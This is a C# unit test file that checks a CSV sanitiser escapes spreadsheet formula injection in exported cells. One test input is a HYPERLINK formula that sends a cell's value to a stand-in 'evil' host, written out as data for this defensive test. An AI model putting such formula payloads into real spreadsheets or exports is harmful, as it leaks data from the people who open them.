using RetailGrains.Api.Imports;
using RetailGrains.Imports;

namespace RetailGrains.Tests.Unit.Imports;

public sealed class CsvTextTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil/?\"&A1)", "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1)\"")]
    [InlineData("+1", "'+1")]
    [InlineData("-1+2", "'-1+2")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "\"'\r=1\"")]
    [InlineData("\n=1", "\"'\n=1\"")]
    [InlineData(" =1", "' =1")]
    [InlineData("\u00A0@x", "'\u00A0@x")]
    [InlineData("\"=1", "\"'\"\"=1\"")]
    [InlineData("＝1", "'＝1")]
    [InlineData("＋1", "'＋1")]
    [InlineData("x;=1;y", "x;'=1;y")]
    [InlineData("x; -1", "x;' -1")]
    [InlineData("a - b; c = d", "a - b; c = d")]
    [InlineData("a=1", "a=1")]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("", "")]
    public void Cells_that_a_spreadsheet_would_evaluate_become_text(string value, string cell) => Assert.Equal(cell, CsvText.Cell(value));
}
